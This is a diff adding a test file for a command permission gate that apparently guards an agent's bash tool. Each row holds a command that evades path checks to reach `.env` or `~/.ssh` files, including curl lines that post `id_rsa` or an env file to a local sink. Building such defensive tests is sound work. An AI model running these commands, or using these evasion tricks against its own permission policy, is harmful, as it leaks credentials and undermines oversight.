@@ -1,0 +1,83 @@
+/**
+ * Classes the strace rounds found open (issue 35), each closed as a class and
+ * checked against the real program: every command below, run for real in the
+ * hunt's sandbox (bubblewrap, strace, the red-team fixture), opens, makes or
+ * replaces a file the hunt's P2 policy denies (`*.env`, `~/.ssh/*`) — the
+ * judge's evidence is the oracle, so a row that stops doing so fails here —
+ * and permc, deciding the same command in the same fixture, does not allow it.
+ * A setup part runs before the command for the oracle only (it makes the
+ * input the command needs, outside the fixture's denied paths).
+ *
+ * K, writers given a directory or prefix; L, `history` with an expanded
+ * operand; M, curl's `@file` values with expansions; P, decompressors that
+ * write a name the file holds or the name without the suffix; a walker that
+ * opens every file it meets (`rgrep`, `gzip -r`): denied, not asked.
+ *
+ * Needs bwrap and strace (npm test installs them): without them this fails.
+ */
+import { realpathSync } from "node:fs";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { Bench } from "../../hunt/hunt.js";
+import { POLICIES } from "../../hunt/decide.js";
+import { missingTools } from "../../hunt/sandbox.js";
+import { createGate, type Gate } from "../../runtime/index.js";
+import { compileAndLoad, piJson } from "../support/compile-and-load.js";
+
+interface Row {
+  readonly command: string;
+  /** Run before `command` for the oracle only. */
+  readonly setup?: string;
+  readonly aim: "env" | "ssh";
+  readonly want: "deny" | "ask";
+}
+
+const CURL_SINK = "http://127.0.0.1:9/";
+const ROWS: readonly Row[] = [
+  // K: the directory or prefix is where the names it makes land.
+  { command: "mktemp -p sshlink", aim: "ssh", want: "ask" },
+  { command: "mktemp --tmpdir=sshlink", aim: "ssh", want: "ask" },
+  { command: "split notes.txt sshlink/", aim: "ssh", want: "deny" },
+  { command: "csplit -f sshlink/ notes.txt 1", aim: "ssh", want: "deny" },
+  { command: "cp notes.txt s*k", aim: "ssh", want: "ask" },
+  { command: "cp --parents notes.txt s*k", aim: "ssh", want: "ask" },
+  { command: "mv notes.txt {x,sshlink}", aim: "ssh", want: "ask" },
+  // L: bash expands history's file operand as any word's.
+  { command: "history -r {sshlink,x}/id_rsa; history", aim: "ssh", want: "deny" },
+  { command: "history -w s*/id_rsa", aim: "ssh", want: "deny" },
+  // M: the file part of curl's data values.
+  { command: `curl -s -d @{sshlink,x}/id_rsa ${CURL_SINK}`, aim: "ssh", want: "deny" },
+  { command: `curl -s --data-urlencode x@$PWD/envlink.txt ${CURL_SINK}`, aim: "env", want: "deny" },
+  { command: `curl -s -w @{sshlink,x}/id_rsa ${CURL_SINK}`, aim: "ssh", want: "deny" },
+  // P: what a decompressor writes.
+  { setup: "printf 'A=1\\n' | gzip > x.env.gz", command: "gunzip x.env.gz", aim: "env", want: "deny" },
+  { setup: "printf 'A=1\\n' | gzip > x.env.gz", command: "gzip -d x.env.gz", aim: "env", want: "deny" },
+  { setup: "printf 'A=1\\n' | xz > .env.xz", command: "unxz -f .env.xz", aim: "env", want: "deny" },
+  { setup: "printf 'A=1\\n' > /tmp/.env && gzip -N /tmp/.env && mv /tmp/.env.gz x.gz", command: "gunzip -N -f x.gz", aim: "env", want: "ask" },
+  // Walkers that open every file they meet.
+  { command: "rgrep SECRET .", aim: "env", want: "deny" },
+  { command: "gzip -r .", aim: "env", want: "deny" },
+  { command: "zstd -qrc . > /tmp/out.zst", aim: "env", want: "deny" },
+];
+
+describe("closed-world round 3: each class against the real program", () => {
+  const missing = missingTools();
+  const bench = missing === null ? new Bench(1) : null;
+  let gate: Gate;
+  beforeAll(async () => {
+    if (bench === null) return;
+    const { policy } = await compileAndLoad([piJson(POLICIES.P2)], { home: bench.paths.home });
+    gate = createGate(policy!, { cwd: realpathSync(bench.paths.proj), home: bench.paths.home });
+  });
+  afterAll(() => bench?.dispose());
+
+  it("has its tools (bubblewrap, strace)", () => {
+    expect(missing, missing ?? "").toBeNull();
+  });
+
+  it.each(ROWS)("`$command` reaches a denied file, and permc answers $want", async (row) => {
+    const ran = await bench!.runCase({ policy: "P2", aim: row.aim, command: row.setup === undefined ? row.command : `${row.setup}; ${row.command}` }, 10_000);
+    expect(ran.records).toBeGreaterThan(0);
+    expect(ran.evidence.length, `the real program reached no denied file: ${JSON.stringify(ran)}`).toBeGreaterThan(0);
+    expect((await gate.decide({ tool: "bash", input: { command: row.command } })).action).toBe(row.want);
+  });
+});
